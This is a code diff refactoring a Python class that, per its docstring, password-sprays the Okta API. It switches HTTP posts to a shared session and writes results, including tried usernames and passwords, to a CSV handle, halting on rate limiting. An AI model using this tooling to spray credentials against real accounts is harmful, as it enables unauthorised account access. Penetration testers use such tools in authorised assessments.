@@ -1,8 +1,6 @@
 import csv
 import json
 
-import requests
-
 
 class Okta:
     """Password spray Okta API"""
@@ -56,7 +54,7 @@ class Okta:
         # set data
         self.set_username(username)
         # post the request
-        response = requests.post(
+        response = self.session.post(
             self.url,
             headers=self.headers,
             json=self.data,
@@ -78,7 +76,7 @@ class Okta:
         self.set_password(password)
         self.set_token(token)
         # post the request
-        response = requests.post(
+        response = self.session.post(
             self.url2,
             headers=self.headers,
             json=self.data2,
@@ -119,7 +117,7 @@ class Okta:
         output.close()
 
     # handle target's response evaluation. Can be customized per module
-    def print_response(self, response, csvfile, timeout=False):
+    def print_response(self, response, output, timeout=False):
         if timeout:
             code = "TIMEOUT"
             length = "TIMEOUT"
@@ -183,11 +181,9 @@ class Okta:
         )
 
         # print to CSV file
-        output = open(csvfile, "a")
         output.write(
             f'{result},{message},{self.data["username"]},{self.data2["password"]},{code},{length}\n'
         )
-        output.close()
 
         if response.status_code == 429:
             print("[!] Encountered HTTP response code 429; killing spray")